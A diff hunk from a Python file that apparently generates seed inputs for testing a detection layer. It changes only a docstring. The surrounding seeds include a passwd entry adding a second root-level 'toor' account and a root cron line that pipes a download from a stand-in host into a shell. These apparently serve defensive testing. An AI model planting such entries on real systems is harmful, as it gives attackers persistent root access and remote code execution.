@@ -558,7 +558,7 @@ def catalog_java_archive_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
 
 
 def detect_layer_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
-    """The first byte picks the path (its index in the target's PATHS, modulo its length)."""
+    """Return one seed per path kind. The first byte picks the path: its index in the target's PATHS, modulo its length."""
     return {
         "passwd": b"\x00root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
         "cron": b"\x01SHELL=/bin/sh\n* * * * * root curl -s http://192.0.2.1/x | sh\n",
